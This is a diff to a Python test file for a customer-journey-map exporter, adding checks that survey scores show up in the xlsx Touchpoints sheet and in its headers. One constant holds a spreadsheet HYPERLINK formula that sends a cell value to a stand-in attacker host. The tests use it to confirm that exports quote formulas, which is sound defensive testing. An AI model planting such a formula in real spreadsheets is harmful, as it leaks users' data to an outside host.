@@ -24,7 +24,15 @@ from cjm.models import (
     Severity,
 )
 from cjm.services.emotions import SCORES
-from cjm.views import FixView, MapView, PainView, StageView, TouchpointView, VoteView
+from cjm.views import (
+    FixView,
+    MapView,
+    PainView,
+    StageView,
+    TouchpointScore,
+    TouchpointView,
+    VoteView,
+)
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 SHEETS = ["Persona", "Stages", "Touchpoints", "Emotions", "Pain points", "Fixes", "Change log"]
@@ -189,6 +197,18 @@ def sheet_rows(workbook: openpyxl.Workbook, title: str) -> list[tuple]:
     return list(workbook[title].iter_rows(values_only=True))
 
 
+class TestScores:
+    def test_touchpoint_scores_land_in_the_touchpoints_sheet(self):
+        """A touchpoint's latest survey score, n and trend appear next to its emotion."""
+        view = small_map()
+        first = view.touchpoints[0]
+        scores = {first.id: TouchpointScore("nps", 32.0, 41, 1)}
+        workbook = openpyxl.load_workbook(io.BytesIO(exports.map_to_xlsx(view, (), scores)))
+        rows = sheet_rows(workbook, "Touchpoints")
+        assert rows[1][-4:] == ("NPS", 32, 41, "up")
+        assert rows[2][-4:] == (None, None, None, None)
+
+
 class TestXlsx:
     def test_has_a_sheet_per_lane_with_bold_frozen_headers(self):
         """Seven sheets in lane order; each has a bold header row that stays put when scrolling."""
@@ -207,6 +227,10 @@ class TestXlsx:
             "Average emotion",
             "Spread",
             "Votes",
+            "Survey",
+            "Survey score",
+            "Survey answers",
+            "Survey trend",
         )
         assert sheet_rows(workbook, "Change log")[0] == (
             "At (Europe/Berlin)",
@@ -234,8 +258,12 @@ class TestXlsx:
             1,
             0.82,
             3,
+            None,
+            None,
+            None,
+            None,
         )
-        assert sheet_rows(workbook, "Touchpoints")[2][5:] == (None, None, 0)
+        assert sheet_rows(workbook, "Touchpoints")[2][5:8] == (None, None, 0)
         assert sheet_rows(workbook, "Emotions")[4:] == [
             ("Buy", "Checkout", "Alice", -2, "'-5 stars, would not buy"),
             ("Buy", "Checkout", "Bob", None, "ok"),
@@ -381,7 +409,7 @@ class TestCsvZip:
         """Same rows as the sheets; formulas quoted, numbers, dates and booleans readable."""
         files = read_zip(exports.map_to_csv_zip(small_map(), CHANGES))
 
-        assert files["touchpoints.csv"] == [
+        assert [row[:8] for row in files["touchpoints.csv"]] == [
             ["Stage", "Position", "Name", "Channel", "Mode", "Average emotion", "Spread", "Votes"],
             ["Discover", "1", "Search ad", "website", "online", "1.0", "0.82", "3"],
             ["Discover", "2", "'" + HYPERLINK, "", "", "", "", "0"],
